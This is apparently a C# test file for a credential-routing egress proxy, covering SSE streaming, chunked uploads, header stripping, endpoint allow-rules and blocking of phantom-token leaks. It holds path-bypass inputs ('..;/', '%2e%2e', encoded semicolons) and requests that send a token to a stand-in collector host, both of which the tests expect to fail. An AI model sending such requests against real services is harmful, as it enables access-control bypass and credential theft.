using System.Net;
using System.Net.Http.Headers;
using System.Text;
using Nono.Core.Proxy;

namespace Nono.Core.Tests.Proxy;

public sealed partial class CredentialRouteTests
{
    [Fact]
    public async Task ServerSentEvents_FirstEventArrivesBeforeUpstreamFinishes()
    {
        TaskCompletionSource firstSeenByClient = new(TaskCreationOptions.RunContinuationsAsynchronously);
        async Task Sse(RecordedRequest request, Stream stream)
        {
            await stream.WriteAsync("HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"u8.ToArray());
            await WriteChunkAsync(stream, "data: first\n\n");
            await firstSeenByClient.Task.WaitAsync(TestContext.Current.CancellationToken); // the upstream is not done until the client saw event 1
            await WriteChunkAsync(stream, "data: second\n\n");
            await stream.WriteAsync("0\r\n\r\n"u8.ToArray());
        }

        await using RunningProxy proxy = await StartAsync(Sse, Service("openai"));
        using HttpClient client = ProxyHarness.DirectClient();
        using HttpRequestMessage request = new(HttpMethod.Get, proxy.RouteUrl("openai") + "/stream");
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", proxy.ChildEnvironment["OPENAI_API_KEY"]);

        using HttpResponseMessage response = await client.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, TestContext.Current.CancellationToken);
        using StreamReader reader = new(await response.Content.ReadAsStreamAsync(TestContext.Current.CancellationToken));
        string? first = await reader.ReadLineAsync(TestContext.Current.CancellationToken);
        firstSeenByClient.SetResult();
        string rest = await reader.ReadToEndAsync(TestContext.Current.CancellationToken);

        Assert.Equal("data: first", first);
        Assert.Equal("\ndata: second\n\n", rest);
    }

    [Fact]
    public async Task ChunkedRequestBody_IsRelayedIntact()
    {
        await using RunningProxy proxy = await StartAsync(null, Service("openai"));
        byte[] payload = new byte[300_000];
        Random.Shared.NextBytes(payload);
        using HttpClient client = ProxyHarness.DirectClient();
        using HttpRequestMessage request = new(HttpMethod.Put, proxy.RouteUrl("openai") + "/upload")
        {
            Content = new StreamContent(new MemoryStream(payload)),
        };
        request.Headers.TransferEncodingChunked = true;
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", proxy.ChildEnvironment["OPENAI_API_KEY"]);

        using HttpResponseMessage response = await client.SendAsync(request, TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(payload, Assert.Single(_origin!.Requests).Body);
        await proxy.DisposeAsync();
        Assert.Equal(payload.Length, Assert.Single(_sink.Events).BytesUp);
    }

    [Fact]
    public async Task ReverseRoute_HopByHopAndProxyHeaders_AreStripped()
    {
        await using RunningProxy proxy = await StartAsync(null, Service("openai"));
        string phantom = proxy.ChildEnvironment["OPENAI_API_KEY"];
        string raw = $"GET /openai/models HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {phantom}\r\nConnection: X-Private\r\nX-Private: 1\r\n"
            + $"Proxy-Authorization: Basic {Convert.ToBase64String(Encoding.ASCII.GetBytes("nono:" + proxy.SessionToken))}\r\nUpgrade: websocket\r\nX-Keep: yes\r\n\r\n";

        string response = await ProxyHarness.RawAsync(proxy, raw);

        Assert.StartsWith("HTTP/1.1 200", response, StringComparison.Ordinal);
        RecordedRequest seen = Assert.Single(_origin!.Requests);
        Assert.Equal($"{ProxyHarness.TestHost}:{_origin.Port}", seen.Header("Host"));
        Assert.Equal("yes", seen.Header("X-Keep"));
        foreach (string stripped in new[] { "X-Private", "Proxy-Authorization", "Upgrade" })
        {
            Assert.False(seen.HasHeader(stripped), stripped + " reached the upstream");
        }

        Assert.DoesNotContain(proxy.SessionToken, seen.RawHead, StringComparison.Ordinal);
        Assert.DoesNotContain("Keep-Alive:", response, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("GET", "/models", HttpStatusCode.OK)]
    [InlineData("POST", "/chat/completions", HttpStatusCode.OK)]
    [InlineData("DELETE", "/models", HttpStatusCode.Forbidden)]
    [InlineData("GET", "/files/abc", HttpStatusCode.Forbidden)]
    [InlineData("GET", "/models/../files/abc", HttpStatusCode.BadRequest)]
    [InlineData("GET", "/models/%2e%2e/files", HttpStatusCode.BadRequest)]
    [InlineData("POST", "/chat/..;/files/abc", HttpStatusCode.BadRequest)] // matched /chat/** before, a servlet container reads /files/abc
    [InlineData("POST", "/chat/a%3B/b", HttpStatusCode.BadRequest)]
    [InlineData("GET", "/models;v=1", HttpStatusCode.BadRequest)]
    [InlineData("GET", "/models/%3B", HttpStatusCode.BadRequest)]
    public async Task EndpointRules_OnlyListedMethodsAndPathsPass(string method, string path, HttpStatusCode expected)
    {
        CredentialService svc = Service("openai") with { EndpointRules = [new("GET", "/models"), new("POST", "/chat/**")] };
        await using RunningProxy proxy = await StartAsync(null, svc);
        string raw = $"{method} /openai{path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {proxy.ChildEnvironment["OPENAI_API_KEY"]}\r\nContent-Length: 0\r\n\r\n";

        string response = await ProxyHarness.RawAsync(proxy, raw);

        Assert.StartsWith($"HTTP/1.1 {(int)expected}", response, StringComparison.Ordinal);
        Assert.Equal(expected == HttpStatusCode.OK ? 1 : 0, _origin!.Requests.Count);
    }

    [Fact]
    public async Task PhantomSentThroughForwardProxyToAnotherHost_IsNotForwarded()
    {
        await using LoopbackServer plain = new();
        await using RunningProxy proxy = await EgressProxy.StartAsync(
            new ProxyOptions
            {
                AllowedHosts = [ProxyHarness.At("collector.test.example", plain.Port)],
                ResolverOverrides = [ProxyHarness.Loopback("collector.test.example")],
                Services = [Service("openai") with { Upstream = new Uri("https://api.test.example/v1") }],
                SupervisorEnvironment = new Dictionary<string, string> { ["REAL_SECRET"] = _secret },
            },
            null,
            _sink,
            TestContext.Current.CancellationToken);
        string phantom = proxy.ChildEnvironment["OPENAI_API_KEY"];
        string auth = ProxyHarness.BasicProxyAuth(proxy.SessionToken);

        string inHeader = await ProxyHarness.RawAsync(proxy, $"GET http://collector.test.example:{plain.Port}/ HTTP/1.1\r\n{auth}Authorization: Bearer {phantom}\r\n\r\n");
        string inQuery = await ProxyHarness.RawAsync(proxy, $"GET http://collector.test.example:{plain.Port}/?k={phantom.ToUpperInvariant()} HTTP/1.1\r\n{auth}\r\n");
        string inBasic = await ProxyHarness.RawAsync(proxy, $"GET http://collector.test.example:{plain.Port}/ HTTP/1.1\r\n{auth}Authorization: Basic {Convert.ToBase64String(Encoding.ASCII.GetBytes("u:" + phantom))}\r\n\r\n");

        string sessionToken = await ProxyHarness.RawAsync(proxy, $"GET http://collector.test.example:{plain.Port}/ HTTP/1.1\r\n{auth}X-Leak: {proxy.SessionToken}\r\n\r\n");
        string clean = await ProxyHarness.RawAsync(proxy, $"GET http://collector.test.example:{plain.Port}/clean HTTP/1.1\r\n{auth}\r\n");

        Assert.EndsWith("hello from upstream /clean", clean, StringComparison.Ordinal);
        Assert.All(new[] { inHeader, inQuery, inBasic, sessionToken }, r => Assert.Contains("X-Nono-Reason: phantom-token-outside-route", r, StringComparison.Ordinal));
        Assert.Equal("/clean", Assert.Single(plain.Requests).Target);
    }

    private static async Task WriteChunkAsync(Stream stream, string text)
    {
        byte[] data = Encoding.UTF8.GetBytes(text);
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"{data.Length:x}\r\n"));
        await stream.WriteAsync(data);
        await stream.WriteAsync("\r\n"u8.ToArray());
        await stream.FlushAsync();
    }
}
